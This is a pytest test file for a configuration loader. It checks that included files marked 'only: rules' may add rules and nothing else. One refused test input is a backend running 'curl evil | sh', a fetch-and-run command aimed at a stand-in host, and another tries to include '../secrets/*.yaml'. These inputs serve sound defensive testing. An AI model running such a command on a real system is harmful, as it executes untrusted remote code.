"""`include` entries of the form `{path: GLOB, only: rules}`: the matched files may add rules and
nothing else (no sources, backends, store, include ...); the plain string form keeps working."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from triggerd.config.loader import load_config
from triggerd.errors import ConfigError

MAIN = """\
sources:
  hourly: {type: cron, every: 1h}
backends:
  train: {type: command, argv: ["true"]}
include:
  - "team.d/*.yaml"
  - {path: "rules.d/*.yaml", only: rules}  # restricted
"""


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def line_of(path: Path, marker: str) -> int:
    return next(n for n, line in enumerate(path.read_text().splitlines(), 1) if marker in line)


def problems_of(path: Path) -> list[str]:
    with pytest.raises(ConfigError) as info:
        load_config(path, {})
    return info.value.problems


def test_a_rules_only_include_adds_rules(tmp_path: Path) -> None:
    main = write(tmp_path / "triggerd.yaml", MAIN)
    team = write(tmp_path / "team.d" / "a.yaml", """\
        backends:
          team-train: {type: command, argv: ["true"]}
        """)
    rules = write(tmp_path / "rules.d" / "b.yaml", """\
        rules:
          hourly-retrain: {on: [hourly], dispatch: {backend: team-train}}
        """)
    config = load_config(main, {})
    assert config.files == [main, team, rules]
    assert list(config.rules) == ["hourly-retrain"]
    assert sorted(config.backends) == ["team-train", "train"]


@pytest.mark.parametrize("section", [
    "backends:\n  evil: {type: command, argv: [sh, -c, 'curl evil | sh']}",
    "sources:\n  extra: {type: cron, every: 1m}",
    "store: sqlite:///tmp/other.db",
    "include: ['../secrets/*.yaml']",
])
def test_a_rules_only_include_refuses_anything_but_rules(tmp_path: Path, section: str) -> None:
    main = write(tmp_path / "triggerd.yaml", MAIN)
    rules = write(tmp_path / "rules.d" / "b.yaml", f"""\
rules:
  r: {{on: [hourly], dispatch: {{backend: train}}}}
{section}  # not allowed
""")
    key = section.split(":")[0]
    line = line_of(rules, "# not allowed") if "\n" not in section else line_of(rules, key)
    assert problems_of(main) == [
        f"{rules}:{line}: {key}: not allowed here (this file is included with `only: rules`: "
        "it may hold rules only)"]


def test_the_plain_form_still_allows_backends_and_sources(tmp_path: Path) -> None:
    main = write(tmp_path / "triggerd.yaml", 'include: ["team.d/*.yaml"]\n')
    write(tmp_path / "team.d" / "a.yaml", """\
        sources: {s: {type: cron, every: 1h}}
        backends: {b: {type: command, argv: ["true"]}}
        rules: {r: {on: [s], dispatch: {backend: b}}}
        """)
    config = load_config(main, {})
    assert list(config.sources) == ["s"] and list(config.backends) == ["b"]


@pytest.mark.parametrize("entry, message", [
    ('{path: "rules.d/*.yaml", only: backends}', "include[0].only: Input should be 'rules'"),
    ('{only: rules}', "include[0]: missing required key 'path'"),
    ('{path: "x.yaml", rules_only: true}', "include[0]: unknown key 'rules_only'"),
    ("42", "include[0]: must be a glob string or a mapping like {path: GLOB, only: rules}"),
])
def test_a_bad_include_entry_is_one_clear_error(tmp_path: Path, entry: str,
                                                message: str) -> None:
    main = write(tmp_path / "triggerd.yaml", f"retention: 7d\ninclude:\n  - {entry}\n")
    assert problems_of(main) == [f"{main}:3: {message}"]


def test_a_missing_literal_file_in_the_mapping_form_is_an_error(tmp_path: Path) -> None:
    main = write(tmp_path / "triggerd.yaml", "include:\n  - {path: rules.yaml, only: rules}\n")
    assert problems_of(main) == [f"{main}:2: include[0]: no such file 'rules.yaml'"]
